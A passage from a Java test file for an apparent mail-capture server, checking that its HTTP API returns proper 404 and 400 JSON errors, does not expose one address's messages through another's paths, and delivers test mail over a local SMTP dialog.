        assertThat(mediaType(unknown)).isEqualTo("application/json");
        assertThat(unknown.body()).isEqualTo(
                "{\"message\":\"Message not found: no message nosuchid-0 in owner@errors.test\",\"error\":\"Not Found\"}");

        for (String path : List.of("/api/addresses/other@errors.test/messages/" + id,
                "/api/addresses/owner@elsewhere.test/messages/" + id,
                "/api/raw/other@errors.test/" + id, "/api/text/other@errors.test/" + id,
                "/api/body/other@errors.test/" + id, "/api/dirty/other@errors.test/" + id,
                "/api/addresses/other@errors.test/messages/" + id + "/headers",
                "/api/addresses/other@errors.test/messages/" + id + "/attachments")) {
            HttpResponse<String> r = server.get(path);
            assertThat(r.statusCode()).as(path).isEqualTo(404);
            assertThat(TestMailbin.JSON.readTree(r.body()).get("error").asString()).as(path).isEqualTo("Not Found");
            assertThat(r.body()).as(path).doesNotContain("secret");
        }
        assertThat(server.delete("/api/addresses/other@errors.test/messages/" + id).statusCode()).isEqualTo(404);
        assertThat(api.count("owner@errors.test")).isEqualTo(1);
    }

    @Test
    void badParametersAre400WithAMessageNamingTheProblem() {
        assertError(server.get("/api/addresses/not-an-address/messages"), 400,
                "invalid address 'not-an-address': expected local-part@domain");
        assertError(server.get("/api/addresses/a@@b.test/message-count"), 400, null);
        assertError(server.get("/api/raw/not-an-address/someid-0"), 400, null);
        assertError(server.get("/api/addresses/ok@errors.test/messages?limit=abc"), 400,
                "limit must be a positive integer, got 'abc'");
        assertError(server.get("/api/addresses/ok@errors.test/messages?limit=-3"), 400,
                "limit must be a positive integer, got -3");
        assertError(server.get("/api/addresses/ok@errors.test/messages?until=garbage"), 400,
                "until must be an ISO-8601 date (e.g. 2026-11-25T10:15:30.000Z), got 'garbage'");
        assertError(server.get("/api/addresses/ok@errors.test/messages?since=2026-13-45"), 400,
                "since must be an ISO-8601 date (e.g. 2026-11-25T10:15:30.000Z), got '2026-13-45'");
    }

    @Test
    void unknownEndpointsAre404Json() {
        assertError(server.get("/api/no-such-endpoint"), 404, "No such endpoint: GET /api/no-such-endpoint");
        assertError(server.delete("/api/raw/a@b.test/x-0"), 404, "No such endpoint: DELETE /api/raw/a@b.test/x-0");
    }

    private static void assertError(HttpResponse<String> r, int status, String message) {
        assertThat(r.statusCode()).as(r.body()).isEqualTo(status);
        assertThat(mediaType(r)).isEqualTo("application/json");
        JsonNode body = TestMailbin.JSON.readTree(r.body());
        assertThat(names(body)).containsExactly("message", "error");
        assertThat(body.get("error").asString()).isEqualTo(status == 400 ? "Bad Request" : "Not Found");
        if (message != null) {
            assertThat(body.get("message").asString()).isEqualTo(message);
        } else {
            assertThat(body.get("message").asString()).isNotBlank();
        }
    }

    // ---- helpers ----

    /** Sends one message with exactly these DATA bytes (which must end with CRLF) to one recipient; returns the queue id. */
    private static String deliver(String recipient, byte[] data) {
        try (SmtpDialog d = SmtpDialog.open(server.smtpPort())) {
            d.command("EHLO client.test", 250);
            d.command("MAIL FROM:<sender@client.test>", 250);
            d.command("RCPT TO:<" + recipient + ">", 250);
            d.command("DATA", 354);
            d.sendRaw(data);
            d.sendRaw(".\r\n".getBytes(StandardCharsets.US_ASCII));
            return d.expect(250).queueId();
        }
    }

    private static String deliver(String recipient, String data) {
        return deliver(recipient, data.getBytes(StandardCharsets.UTF_8));
    }

    /** Length of the first header field of a message, continuation lines included. */
    private static int endOfFirstHeaderField(byte[] raw) {
        for (int i = 0; i + 2 < raw.length; i++) {
            if (raw[i] == '\r' && raw[i + 1] == '\n' && raw[i + 2] != ' ' && raw[i + 2] != '\t') {
                return i + 2;
            }
        }
        throw new AssertionError("no header field end found");
    }

    /** The Content-Type header without optional whitespace, lower case: Jetty writes {@code text/plain;charset=utf-8}. */
    private static String mediaType(HttpResponse<?> r) {
        return r.headers().firstValue("Content-Type").orElse("").replace(" ", "").toLowerCase();
    }

    private static List<String> subjects(Iterable<JsonNode> messages) {
        List<String> subjects = new ArrayList<>();
        messages.forEach(m -> subjects.add(m.get("subject").asString()));
        return subjects;
    }

    private static List<String> ids(Iterable<JsonNode> messages) {
        List<String> ids = new ArrayList<>();
        messages.forEach(m -> ids.add(m.get("_id").asString()));
        return ids;
    }

    private static List<String> names(JsonNode object) {
        return new ArrayList<>(object.propertyNames());
    }

    static String md5(byte[] content) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("MD5").digest(content));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A valid 1x1 PNG, so the inlined image is a real one. */
    static byte[] pngBytes() {
        return Base64.getDecoder().decode(
                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
    }
}
